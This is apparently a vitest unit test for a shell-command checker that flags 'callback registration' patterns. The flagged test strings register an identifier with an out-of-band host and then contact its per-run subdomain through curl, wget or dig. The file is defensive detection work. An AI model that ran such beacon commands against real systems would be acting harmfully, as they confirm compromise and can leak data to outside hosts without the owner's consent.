import { describe, expect, it } from 'vitest';
import { checkCallbackRegistrations } from './callback-registrations.js';
import { parseShell } from './shell.js';

async function ruleOf(command: string): Promise<string | undefined> {
  return checkCallbackRegistrations(await parseShell(command))?.rule;
}

describe('checkCallbackRegistrations', () => {
  it.each([
    `curl -s https://oob.example.org/register -d '{"id":"build-7"}' && curl -s https://build-7.oob.example.org`,
    `curl -X POST https://probe.example.com/api/new?name=runner42; wget -qO- http://runner42.probe.example.com/x`,
    `curl -s https://oob.example.org/api/register -d 'name=runner-9' && dig +short runner-9.oob.example.org`,
  ])('flags %s', async (command) => {
    expect(await ruleOf(command)).toBe('stage1:callback-registration');
  });

  it.each([
    'curl -s https://example.com && curl -s https://docs.example.com',
    'curl -s https://api.example.com/health && curl -s https://www.example.com',
    `curl -s https://oob.example.org/register -d '{"id":"build-7"}'`,
    'dig +short example.org && dig +short docs.example.org',
  ])('passes %s', async (command) => {
    expect(await ruleOf(command)).toBeUndefined();
  });
});
